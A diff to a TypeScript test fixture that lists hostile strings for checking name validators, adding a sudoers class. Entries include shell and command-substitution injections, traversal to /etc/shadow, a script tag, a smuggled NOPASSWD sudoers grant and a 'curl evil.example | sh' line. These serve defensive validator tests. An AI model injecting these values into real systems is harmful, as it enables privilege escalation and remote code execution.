@@ -56,7 +56,9 @@ export type HostileClass =
   /** Longer than any name or line limit here (255 bytes, 4 KiB, 64 Ki characters). */
   | "over-long"
   /** The empty string. */
-  | "empty";
+  | "empty"
+  /** Means something else to sudo when it stands for a user or group: an alias, `%group`, `#uid`, a list. */
+  | "sudoers";
 
 /** One hostile string. */
 export interface HostileString {
@@ -87,6 +89,9 @@ function hex(code: number): string {
 function build(): HostileString[] {
   const out: HostileString[] = [];
   const add = (name: string, value: string, ...classes: HostileClass[]) => out.push({ name, value, classes });
+  const addAll = (cls: HostileClass, entries: [name: string, value: string][]) => {
+    for (const [name, value] of entries) add(name, value, cls);
+  };
 
   add("NUL", "\0", "nul");
   for (let code = 1; code < 0x20; code++) {
@@ -106,11 +111,13 @@ function build(): HostileString[] {
   }
   add("line separator U+2028", "\u2028", "unicode-line-separator");
   add("paragraph separator U+2029", "\u2029", "unicode-line-separator");
-  add("lone high surrogate U+D800", "\ud800", "lone-surrogate");
-  add("lone high surrogate U+DBFF", "\udbff", "lone-surrogate");
-  add("lone low surrogate U+DC00", "\udc00", "lone-surrogate");
-  add("lone low surrogate U+DFFF", "\udfff", "lone-surrogate");
-  add("reversed surrogate pair", "\ude00\ud83d", "lone-surrogate");
+  addAll("lone-surrogate", [
+    ["lone high surrogate U+D800", "\ud800"],
+    ["lone high surrogate U+DBFF", "\udbff"],
+    ["lone low surrogate U+DC00", "\udc00"],
+    ["lone low surrogate U+DFFF", "\udfff"],
+    ["reversed surrogate pair", "\ude00\ud83d"],
+  ]);
   for (const code of [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069]) {
     add(`bidi ${hex(code)}`, String.fromCharCode(code), "bidi");
   }
@@ -133,27 +140,33 @@ function build(): HostileString[] {
     "markup",
     "shell",
   );
-  add("HTML comment close", "-->", "markup");
-  add("XML element close", "</zone>", "markup");
-  add("XML element injection", "</description><rule><accept/></rule>", "markup");
+  addAll("markup", [
+    ["HTML comment close", "-->"],
+    ["XML element close", "</zone>"],
+    ["XML element injection", "</description><rule><accept/></rule>"],
+  ]);
   add("CDATA close", "]]>", "markup", "ini");
   add("ampersand", "&", "markup", "shell");
   add("entity", "&lt;&#0;", "markup");
   add("angle brackets", "<script>alert(1)</script>", "markup");
-  add("template expansion", "${HOME}", "shell");
-  add("empty template", "${}", "shell");
-  add("command substitution", "$(id)", "shell");
+  addAll("shell", [
+    ["template expansion", "${HOME}"],
+    ["empty template", "${}"],
+    ["command substitution", "$(id)"],
+  ]);
   add("backtick substitution", "`id`", "shell", "quote");
   add("command separator", "; id", "shell", "whitespace");
   add("pipe", "| id", "shell", "whitespace");
   add("glob", "*", "shell");
-  add("parent directory", "..", "path");
-  add("traversal", "../", "path");
-  add("deep traversal", "../../../etc/shadow", "path");
-  add("traversal inside", "a/../../b", "path");
-  add("absolute path", "/etc/shadow", "path");
-  add("double slash", "a//b", "path");
-  add("home", "~root", "path");
+  addAll("path", [
+    ["parent directory", ".."],
+    ["traversal", "../"],
+    ["deep traversal", "../../../etc/shadow"],
+    ["traversal inside", "a/../../b"],
+    ["absolute path", "/etc/shadow"],
+    ["double slash", "a//b"],
+    ["home", "~root"],
+  ]);
   add("short option", "-rf", "option");
   add("long option", "--help", "option");
   add("option with a value", "--zone=trusted", "option", "ini");
@@ -166,23 +179,50 @@ function build(): HostileString[] {
   add("key injection", "k=v", "ini");
   add("semicolon", ";", "ini", "shell");
   add("hash comment", "# comment", "ini", "whitespace");
-  add("leading space", " a", "whitespace");
-  add("trailing space", "a ", "whitespace");
-  add("inner space", "a b", "whitespace");
-  add("only spaces", "   ", "whitespace");
-  add("non-breaking space", "a\u00a0b", "whitespace");
+  addAll("whitespace", [
+    ["leading space", " a"],
+    ["trailing space", "a "],
+    ["inner space", "a b"],
+    ["only spaces", "   "],
+    ["non-breaking space", "a\u00a0b"],
+  ]);
   add("empty", "", "empty");
-  add("256 letters", "a".repeat(256), "over-long");
-  add("4097 letters", "a".repeat(4097), "over-long");
-  add("64 Ki + 1 letters", "a".repeat(64 * 1024 + 1), "over-long");
-  add("256 emoji (4 bytes each)", "\u{1f600}".repeat(256), "over-long");
+  addAll("over-long", [
+    ["256 letters", "a".repeat(256)],
+    ["4097 letters", "a".repeat(4097)],
+    ["64 Ki + 1 letters", "a".repeat(64 * 1024 + 1)],
+    ["256 emoji (4 bytes each)", "\u{1f600}".repeat(256)],
+  ]);
   add("newline then section", "a\n[org/evil]\nk=1", "newline", "c0", "ini");
+  add("sudoers line break into a grant", "alice\nbob ALL=(ALL) NOPASSWD: ALL", "sudoers", "newline", "c0");
+  add("script line ended by a carriage return", "true\rcurl evil.example | sh", "newline", "c0", "shell");
   add("CRLF header injection", "x\r\nSet-Cookie: a=b", "newline", "c0");
   return out;
 }
 
 /** Every hostile string, each with a unique name. */
 export const HOSTILE_STRINGS: readonly HostileString[] = Object.freeze(build());
+
+/**
+ * Values that are harmless in most names (`ALL` is a fine dconf schema component, `+wheel` a firewalld service) but
+ * mean something else to sudo where a user or group name becomes a sudoers word: everyone, an alias, a list, a
+ * Runas or host separator, `%group`, `#uid`, a netgroup, a negation. Kept apart from {@link HOSTILE_STRINGS}, whose
+ * entries every name checker refuses; the Privilege tests try both.
+ */
+export const SUDOERS_HOSTILE_STRINGS: readonly HostileString[] = Object.freeze(
+  ([
+    ["sudoers everyone", "ALL"],
+    ["sudoers alias", "ADMINS_1"],
+    ["sudoers list", "alice,ALL"],
+    ["sudoers runas separator", "alice:root"],
+    ["sudoers host assignment", "alice=ALL"],
+    ["sudoers group sigil", "%sudo"],
+    ["sudoers uid", "#0"],
+    ["sudoers netgroup", "+wheel"],
+    ["sudoers negation", "!alice"],
+    ["sudoers escape", "alice\\ ALL"],
+  ] as const).map(([name, value]) => ({ name, value, classes: ["sudoers"] as const })),
+);
 
 /** Every class used in {@link HOSTILE_STRINGS}. */
 export const HOSTILE_CLASSES: readonly HostileClass[] = Object.freeze([
